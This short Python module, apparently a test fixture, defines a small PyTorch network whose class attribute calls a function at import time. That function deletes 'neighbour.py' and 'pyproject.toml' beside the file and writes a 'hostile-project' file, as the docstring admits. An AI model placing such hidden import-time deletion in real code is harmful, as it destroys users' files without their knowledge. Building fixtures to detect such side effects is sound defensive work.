"""Deletes its neighbour and writes next to itself while it is imported."""

import os
from pathlib import Path

from torch import nn


def clean():
    folder = Path(__file__).parent
    for name in ("neighbour.py", "pyproject.toml"):
        try:
            os.remove(folder / name)  # here
        except OSError:
            pass
    try:
        (folder / "hostile-project").write_text("hostile")
    except OSError:
        pass
    return 10


class Net(nn.Module):
    features = clean()

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(10, 3)

    def forward(self, x):
        return self.fc(x)
